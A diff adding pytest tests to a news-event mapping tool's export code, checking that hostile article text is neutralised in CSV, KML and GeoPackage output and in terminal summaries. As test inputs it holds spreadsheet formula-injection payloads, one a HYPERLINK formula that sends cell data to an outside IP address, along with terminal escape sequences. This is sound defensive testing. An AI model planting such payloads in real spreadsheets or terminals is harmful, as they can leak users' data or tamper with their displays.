@@ -452,3 +452,165 @@ def test_broken_row_at_the_end_never_gives_a_half_loaded_gazetteer(tmp_path: Pat
     path.write_text(good, encoding="utf-8")
     fixed = load_gazetteer(path)
     assert len(fixed.places) == len(rows) - 1, "a fixed file loads every row"
+
+
+# ------------------------------------------- what leaves the machine: files and terminal
+
+# Titles and sentences a hostile or unlucky article brings: spreadsheet formulas, and the
+# control characters XML 1.0 forbids (a form feed is common in text copied out of a PDF).
+HOSTILE_TITLES = {
+    "formula-at": "@SUM(1+1) Aleppo shelling\x1b[31m turns red",
+    "formula-plus": "+Aleppo clashes\x0cpage two of the PDF",
+    "formula-minus": "-2 dead in Aleppo\x0bafter a vertical tab",
+    "formula-spaces": '  =HYPERLINK("http://203.0.113.9/?"&A1,"more") Aleppo',
+    "non-character": "Aleppo shelling \ufffe\uffff resumes",
+}
+HOSTILE_BODY = (
+    "ALEPPO, September 18 (Wire Service) - Government forces shelled Aleppo on Saturday, "
+    "killing 12 civilians, the health ministry said.\x0c=Reporters could not verify it.\n"
+)
+
+
+@pytest.fixture(scope="module")
+def hostile_build(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    folder = tmp_path_factory.mktemp("hostile-articles")
+    for name, title in HOSTILE_TITLES.items():
+        text = f"{title}\n\nWire Service September 18, 2016, 10:00\n\n{HOSTILE_BODY}"
+        (folder / f"{name}.txt").write_text(text, encoding="utf-8")
+    out = tmp_path_factory.mktemp("hostile-out")
+    done = run_cli("build", str(folder), "--out", str(out), "--no-world")
+    assert done.returncode == 0, done.stderr
+    return out
+
+
+@pytest.mark.parametrize(
+    ("cell", "shown"),
+    [
+        (
+            '=HYPERLINK("http://203.0.113.9/?"&A1,"x")',
+            '\'=HYPERLINK("http://203.0.113.9/?"&A1,"x")',
+        ),
+        ("+7 killed", "'+7 killed"),
+        ("-2 dead in Aleppo", "'-2 dead in Aleppo"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("   =1+1", "'   =1+1"),
+        ("\uff1d1+1", "'\uff1d1+1"),
+        ("Aleppo", "Aleppo"),
+        ("Shelling in Aleppo: 2 = too many", "Shelling in Aleppo: 2 = too many"),
+        ("", ""),
+    ],
+    ids=[
+        "hyperlink formula",
+        "plus",
+        "minus",
+        "at sign",
+        "tab",
+        "carriage return",
+        "spaces before the equals sign",
+        "full-width equals sign",
+        "plain place name",
+        "equals sign inside the text",
+        "empty cell",
+    ],
+)
+def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(cell: str, shown: str) -> None:
+    from geo.export import spreadsheet_safe
+
+    assert spreadsheet_safe(cell) == shown
+
+
+def test_no_text_cell_of_events_csv_starts_a_formula(hostile_build: Path) -> None:
+    from geo.export import ACLED_COLUMNS
+
+    text = (hostile_build / "events.csv").read_text(encoding="utf-8")
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert rows and list(rows[0]) == list(ACLED_COLUMNS)
+    numbers = {"latitude", "longitude", "year", "fatalities", "evidence_start", "evidence_end"}
+    for row in rows:
+        for column, cell in row.items():
+            if column not in numbers:
+                assert cell.lstrip(" ")[:1] not in set("=+-@\t\r"), (column, cell)
+    titles = {row["title"] for row in rows}
+    assert any(title.startswith("'@SUM(1+1) Aleppo") for title in titles), titles
+    assert all(float(row["latitude"]) > 35 for row in rows), "coordinates stay numbers"
+
+
+def test_kml_with_forbidden_characters_is_well_formed_xml(hostile_build: Path) -> None:
+    import lxml.etree
+    import pyogrio
+
+    path = hostile_build / "map.kml"
+    tree = lxml.etree.parse(str(path), lxml.etree.XMLParser(recover=False))
+    names = [n.text or "" for n in tree.iter("{http://www.opengis.net/kml/2.2}name")]
+    assert any("page two of the PDF" in name for name in names), names
+    events = pyogrio.read_dataframe(path, layer="events")
+    assert len(events) >= len(HOSTILE_TITLES) - 1
+    assert not any(re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", t) for t in names)
+
+
+def test_gpkg_keeps_the_text_after_a_control_character(hostile_build: Path) -> None:
+    import pyogrio
+
+    events = pyogrio.read_dataframe(hostile_build / "map.gpkg", layer="events")
+    titles = " | ".join(events["title"].dropna())
+    assert "page two of the PDF" in titles and "after a vertical tab" in titles
+    assert "could not verify it" in " ".join(events["evidence"].dropna())
+
+
+def test_gpkg_text_is_not_cut_at_a_nul(tmp_path: Path) -> None:
+    """A NUL cannot come from a file (that is binary), but can from pasted or HTML text."""
+    import pyogrio
+    from test_layers import sample_corpus, sample_gazetteer
+
+    from geo.export import write_gpkg, write_kml
+    from geo.layers import build_layers
+
+    layers = build_layers(sample_corpus(hostile=True), sample_gazetteer())
+    layers.events["title"] = "before the NUL\x00after the NUL"
+    write_gpkg(layers, tmp_path / "map.gpkg")
+    write_kml(layers, tmp_path / "map.kml")
+    for name in ("map.gpkg", "map.kml"):
+        titles = pyogrio.read_dataframe(tmp_path / name, layer="events")["title"]
+        assert set(titles) == {"before the NUL after the NUL"}, name
+
+
+def test_a_file_name_that_is_not_utf8_builds_without_a_traceback(tmp_path: Path) -> None:
+    import os
+
+    folder = tmp_path / "articles"
+    folder.mkdir()
+    name = os.fsdecode(b"caf\xe9-report.txt")
+    (folder / name).write_bytes(SEEDS[0].read_bytes())
+    done = run_cli("build", str(folder), "--out", str(tmp_path / "out"), "--no-world")
+    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
+    rows = list(csv.DictReader(io.StringIO((tmp_path / "out/events.csv").read_text("utf-8"))))
+    assert rows and {row["article"] for row in rows} == {"caf\\xe9-report"}
+
+
+def test_the_build_summary_shows_escape_sequences_as_text(tmp_path: Path) -> None:
+    folder = tmp_path / "articles"
+    folder.mkdir()
+    body = HOSTILE_BODY.replace("Government forces", "\x1b]0;owned\x07\x1b[2J Government forces")
+    text = "Shelling\n\nWire Service September 18, 2016, 10:00\n\n" + body + body
+    (folder / "a\x1b[31m.txt").write_text(text, encoding="utf-8")
+    done = run_cli("build", str(folder), "--out", str(tmp_path / "out"), "--no-world")
+    assert done.returncode == 0, done.stderr
+    assert "\x1b" not in done.stdout and "\x07" not in done.stdout
+    assert "a\\u001b[31m" in done.stdout, done.stdout
+
+
+@pytest.mark.parametrize(
+    "out",
+    ["articles", "articles/out", "articles/./deeper/out"],
+    ids=["the articles folder", "a folder in it", "a folder deeper in it"],
+)
+def test_an_output_folder_inside_the_articles_folder_is_refused(tmp_path: Path, out: str) -> None:
+    folder = tmp_path / "articles"
+    folder.mkdir()
+    (folder / "a.txt").write_bytes(SEEDS[0].read_bytes())
+    done = run_cli("build", str(folder), "--out", str(tmp_path / out), "--no-world")
+    assert done.returncode == 2 and done.stderr.count("\n") == 1, done.stderr
+    assert "inside the articles folder" in done.stderr
+    assert sorted(p.name for p in folder.iterdir()) == ["a.txt"], "nothing was written"
